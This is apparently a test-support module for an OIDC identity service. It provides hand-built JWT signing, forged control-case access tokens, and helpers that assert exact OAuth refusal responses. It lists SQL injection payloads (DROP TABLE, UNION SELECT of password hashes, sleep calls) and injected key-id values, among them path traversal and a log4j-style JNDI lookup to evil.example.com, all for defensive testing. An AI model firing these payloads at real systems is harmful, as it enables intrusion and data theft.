"""What an attacker brings: hand-made JWTs, a portal's own keys, browsers at other addresses.

JWTs are assembled here byte by byte (``compact``, ``sign``) instead of through a library,
so a test can send exactly the header, claims and signature encoding an attack needs —
including ones no library would produce. ``forged_access_token`` makes an access token
that is signed with the provider's real key and recorded like an issued one: the control
case each attack varies in one respect. The refusal checks state the whole expected
answer (status, error code, headers), not just "not 200".
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import hmac
import json
import secrets
from typing import Any

import httpx
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from fastapi import FastAPI
from jwt.algorithms import get_default_algorithms

from identity_service.api.deps import IdentityServices
from identity_service.jwk import public_jwk_members
from identity_service.oidc.access_tokens import IssuedAccessToken
from identity_service.oidc.registration import ClientRegistration
from tests.identity_service.oidc.support import ISSUER, Browser

ASSERTION_TYPE = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"
TOKEN_ENDPOINT = f"{ISSUER}/token"
KEY_CLIENT_REDIRECT = "https://hoso.example.vn/callback"
KEY_CLIENT_KID = "portal-key-1"


def b64url(data: bytes | dict[str, Any] | list[Any] | str) -> str:
    """base64url without padding (RFC 7515 §2) of bytes, text or a JSON value."""
    if isinstance(data, str):
        raw = data.encode("utf-8")
    elif isinstance(data, bytes):
        raw = data
    else:
        raw = json.dumps(data).encode("utf-8")
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode("ascii")


def compact(header: dict[str, Any], payload: dict[str, Any], signature: bytes = b"") -> str:
    """A JWS compact serialisation with exactly this header, payload and signature."""
    return f"{b64url(header)}.{b64url(payload)}.{b64url(signature)}"


def sign(header: dict[str, Any], payload: dict[str, Any], key: Any) -> str:
    """Sign with ``header["alg"]`` (asymmetric key or HMAC secret bytes), header as given."""
    signing_input = f"{b64url(header)}.{b64url(payload)}"
    algorithm = get_default_algorithms()[header["alg"]]
    signature = algorithm.sign(signing_input.encode("ascii"), algorithm.prepare_key(key))
    return f"{signing_input}.{b64url(signature)}"


def hs256(header: dict[str, Any], payload: dict[str, Any], secret: bytes) -> str:
    """HMAC-SHA256 with any bytes as the secret (PyJWT refuses PEM-looking secrets)."""
    signing_input = f"{b64url({**header, 'alg': 'HS256'})}.{b64url(payload)}"
    mac = hmac.new(secret, signing_input.encode("ascii"), hashlib.sha256).digest()
    return f"{signing_input}.{b64url(mac)}"


def b64url_decode(part: str) -> bytes:
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4))


# SQL metacharacters as an injection attempt would place them in any text field.
SQL_PAYLOADS = [
    "' OR '1'='1",
    "'; DROP TABLE account; --",
    '" OR ""="',
    "1); DELETE FROM oidc_client WHERE (1=1",
    "' UNION SELECT personal_id_number, password_hash FROM account --",
    "1' AND SLEEP(5) AND '1'='1",
    "%' OR 1=1 --",
    "\\'; SELECT pg_sleep(5); --",
    "admin'/*",
]

# kid values that try path traversal, SQL, log4j-style lookups, odd types and sizes.
INJECTED_KIDS: list[Any] = [
    "../../../../../../dev/null",
    "/dev/null",
    "..\\..\\..\\windows\\win.ini",
    "' OR '1'='1",
    "x' UNION SELECT kid, alg, public_jwk FROM signing_key--",
    "kid\x00.pem",
    "",
    "a" * 5000,
    "${jndi:ldap://evil.example.com/a}",
    42,
    ["a"],
    {"$ne": None},
    True,
]


def self_signed_certificate(key: Any) -> str:
    """A base64 DER certificate for ``key``, as an ``x5c`` header entry carries it."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "id.natid.test")])
    now = dt.datetime.now(dt.UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
        .sign(key, hashes.SHA256())
    )
    return base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()


def attacker_key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def access_token_claims(now: float, client_id: str, *, lifetime: int = 300) -> dict[str, Any]:
    """The claim set ``TokenService.access_token`` issues, at provider time ``now``."""
    now = int(now)
    return {
        "iss": ISSUER,
        "exp": now + lifetime,
        "aud": ISSUER,
        "sub": secrets.token_urlsafe(16),
        "client_id": client_id,
        "iat": now,
        "jti": secrets.token_urlsafe(16),
        "scope": "openid profile",
    }


def forged_access_token(
    services: IdentityServices,
    now: float,
    personal_id_number: str,
    client_id: str,
    *,
    claims: dict[str, Any] | None = None,
    drop: tuple[str, ...] = (),
    header: dict[str, Any] | None = None,
) -> str:
    """An access token signed with the provider's active ES256 key and recorded as issued.

    Unchanged, it is accepted by userinfo; ``claims``/``drop``/``header`` vary one thing.
    """
    key = services.keys.signing_key("ES256")
    payload = {**access_token_claims(now, client_id), **(claims or {})}
    for name in drop:
        payload.pop(name, None)
    jti = payload.get("jti")
    if isinstance(jti, str):
        # Remembered an hour: the record never runs out before the token itself does.
        services.access_tokens.remember(
            IssuedAccessToken(
                jti=jti,
                personal_id_number=personal_id_number,
                client_id=client_id,
                scopes=("openid", "profile"),
            ),
            3600,
        )
    token_header = {"alg": "ES256", "typ": "at+jwt", "kid": key.kid, **(header or {})}
    token_header = {name: value for name, value in token_header.items() if value is not None}
    return sign(token_header, payload, key.private_key)


class KeyClient:
    """A portal registered for ``private_key_jwt`` with an EC P-256 key."""

    def __init__(self, services: IdentityServices, clock: Any) -> None:
        self.key = attacker_key()
        self.clock = clock
        self.public_jwk = {
            **public_jwk_members(self.key.public_key()),
            "kid": KEY_CLIENT_KID,
            "use": "sig",
        }
        self.client_id = services.clients.register(
            ClientRegistration(
                name="Cổng hồ sơ",
                redirect_uris=(KEY_CLIENT_REDIRECT,),
                scopes=("openid", "profile"),
                token_endpoint_auth_method="private_key_jwt",
                jwks={"keys": [self.public_jwk]},
                id_token_signed_response_alg="ES256",
            )
        ).client.client_id

    def claims(self, **changes: Any) -> dict[str, Any]:
        """A valid assertion's claims; a value of None drops that claim."""
        now = int(self.clock())
        payload = {
            "iss": self.client_id,
            "sub": self.client_id,
            "aud": TOKEN_ENDPOINT,
            "iat": now,
            "exp": now + 120,
            "jti": secrets.token_urlsafe(16),
            **changes,
        }
        return {name: value for name, value in payload.items() if value is not None}

    def assertion(
        self, *, key: Any = None, header: dict[str, Any] | None = None, **claims: Any
    ) -> str:
        token_header = {"alg": "ES256", "typ": "JWT", "kid": KEY_CLIENT_KID, **(header or {})}
        token_header = {name: value for name, value in token_header.items() if value is not None}
        return sign(token_header, self.claims(**claims), key or self.key)

    def token_request(self, assertion: str, **extra: str) -> dict[str, str]:
        """A token request that fails only after client authentication (unknown code)."""
        return {
            "grant_type": "authorization_code",
            "code": "no-such-code",
            "redirect_uri": KEY_CLIENT_REDIRECT,
            "code_verifier": "v" * 43,
            "client_assertion_type": ASSERTION_TYPE,
            "client_assertion": assertion,
            **extra,
        }


class BrowserAt(Browser):
    """A citizen's (or an attacker's) browser connecting from ``ip``."""

    def __init__(self, app: FastAPI, ip: str) -> None:
        self.base_url = ISSUER
        self.http = httpx.AsyncClient(
            transport=httpx.ASGITransport(app=app, client=(ip, 40_000)), base_url=ISSUER
        )


def assert_oauth_error(
    response: httpx.Response, status: int, error: str, label: str = ""
) -> dict[str, Any]:
    """An RFC 6749 §5.2 error: status, code, JSON body, never cached.

    ``label`` names the attack in the failure message when a test tries several.
    """
    assert response.status_code == status, f"{label}: {response.text[:300]}"
    assert response.headers["content-type"].startswith("application/json"), label
    body = response.json()
    assert body["error"] == error, f"{label}: {body}"
    assert isinstance(body.get("error_description", ""), str), label
    assert response.headers["cache-control"] == "no-store", label
    return body


def assert_bearer_refusal(response: httpx.Response, label: str = "") -> None:
    """Userinfo's answer to a token it does not accept (RFC 6750 §3.1)."""
    assert_oauth_error(response, 401, "invalid_token", label)
    challenge = response.headers["www-authenticate"]
    assert challenge.startswith('Bearer realm="natid"'), label
    assert 'error="invalid_token"' in challenge, label


def assert_page_without_redirect(response: httpx.Response, status: int) -> None:
    """An HTML error page: no redirect anywhere, nothing to follow, no session made."""
    assert response.status_code == status, response.text[:300]
    assert "location" not in response.headers
    assert response.headers["content-type"].startswith("text/html")
    assert "natid_session" not in response.headers.get("set-cookie", "")
    assert 'http-equiv="refresh"' not in response.text.lower()
